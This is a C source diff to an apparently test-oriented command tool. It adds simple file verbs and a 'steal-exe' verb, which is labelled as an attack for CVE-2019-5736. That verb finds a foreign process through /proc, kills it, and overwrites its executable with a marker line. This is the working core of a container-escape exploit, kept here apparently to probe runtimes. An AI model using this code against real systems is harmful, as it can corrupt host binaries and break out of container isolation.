@@ -6,6 +6,7 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <limits.h>
+#include <signal.h>
 #include <stdbool.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -68,6 +69,30 @@ static int verb_set(int argc, char **argv)
 {
 	(void)argc;
 	return put(argv[1], argv[2], 0);
+}
+
+/* With an end of line. */
+static int verb_append(int argc, char **argv)
+{
+	char line[4096];
+
+	(void)argc;
+	snprintf(line, sizeof(line), "%s\n", argv[2]);
+	return put(argv[1], line, O_CREAT | O_APPEND);
+}
+
+static int verb_save(int argc, char **argv)
+{
+	FILE *f = fopen(argv[1], "we");
+	char buf[4096];
+	ssize_t n;
+
+	(void)argc;
+	if (!f)
+		return failed(argv[1]);
+	while ((n = read(STDIN_FILENO, buf, sizeof(buf))) > 0)
+		fwrite(buf, 1, (size_t)n, f);
+	return fclose(f) ? failed(argv[1]) : 0;
 }
 
 static int compare(const void *a, const void *b)
@@ -222,6 +247,57 @@ static int verb_exec(int argc, char **argv)
 	return 0;
 }
 
+/* ---- an attack: CVE-2019-5736 ---- */
+
+/* The first process whose program is not ours: a descriptor of the program, and the pid. */
+static int find_stranger(pid_t *out_pid)
+{
+	char own[PATH_MAX], target[PATH_MAX], path[300];
+	ssize_t own_len = readlink("/proc/self/exe", own, sizeof(own));
+	struct dirent *entry;
+	int fd = -1;
+
+	for (;;) {
+		DIR *dir = opendir("/proc");
+
+		while (dir && fd < 0 && (entry = readdir(dir))) {
+			ssize_t len;
+
+			*out_pid = (pid_t)strtol(entry->d_name, NULL, 10);
+			if (*out_pid <= 0)
+				continue;
+			snprintf(path, sizeof(path), "/proc/%d/exe", *out_pid);
+			len = readlink(path, target, sizeof(target));
+			if (len > 0 && (len != own_len || memcmp(own, target, (size_t)len) != 0))
+				fd = open(path, O_RDONLY | O_CLOEXEC);
+		}
+		if (dir)
+			closedir(dir);
+		if (fd >= 0)
+			return fd;
+		usleep(1000);
+	}
+}
+
+/* Waits for such a process, ends it, and writes to its program's file. */
+static int verb_steal_exe(int argc, char **argv)
+{
+	char path[64];
+	pid_t pid;
+	int fd = find_stranger(&pid), out;
+
+	(void)argc;
+	(void)argv;
+	kill(pid, SIGKILL);
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+	do {
+		out = open(path, O_WRONLY | O_CLOEXEC);
+	} while (out < 0 && errno == ETXTBSY);
+	if (out < 0)
+		return answer(-1, "steal");
+	return answer(write(out, "#!/attack\n", 10), "steal");
+}
+
 /* ---- mounts ---- */
 
 /* The fields of one line of mountinfo (proc_pid_mountinfo(5)), cut at blanks. */
@@ -355,6 +431,8 @@ const struct verb file_verbs[] = {
 	{ "cat", "FILE...", "print files; - is standard input", 1, ANY, verb_cat },
 	{ "write", "FILE TEXT", "make or overwrite a file", 2, 2, verb_write },
 	{ "set", "FILE TEXT", "write to an existing file, as to those of /proc", 2, 2, verb_set },
+	{ "append", "FILE TEXT", "add a line to a file", 2, 2, verb_append },
+	{ "save", "FILE", "write standard input to a file", 1, 1, verb_save },
 	{ "ls", "DIR", "print the sorted names", 1, 1, verb_ls },
 	{ "stat", "PATH...", "type, mode, owner, device or size; links are not followed", 1, ANY,
 		verb_stat },
@@ -366,6 +444,8 @@ const struct verb file_verbs[] = {
 	{ "chown", "PATH UID GID", "change the owner", 3, 3, verb_chown },
 	{ "mknod", "PATH c|b|p [MAJ MIN]", "make a device or fifo", 2, 4, verb_mknod },
 	{ "exec", "PATH ARGUMENT...", "execute a program", 1, ANY, verb_exec },
+	{ "steal-exe", "", "wait for another program, and try to write to its file", 0, 0,
+		verb_steal_exe },
 	{ "mounts", "[MOUNTPOINT]", "what is mounted", 0, 1, verb_mounts },
 	{ "mount", "SRC DST TYPE [FLAGS [DATA]]", "mount", 3, 5, verb_mount },
 	{ "umount", "MOUNTPOINT", "unmount lazily", 1, 1, verb_umount },
